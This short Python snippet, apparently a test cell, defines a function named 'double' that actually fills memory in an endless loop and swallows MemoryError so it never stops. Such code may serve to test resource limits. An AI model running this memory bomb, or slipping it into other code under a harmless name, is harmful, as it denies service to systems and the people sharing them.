# %% double
kept = []

def double(x):
    while True:
        try:
            while True:
                kept.append(object())
        except MemoryError:
            pass
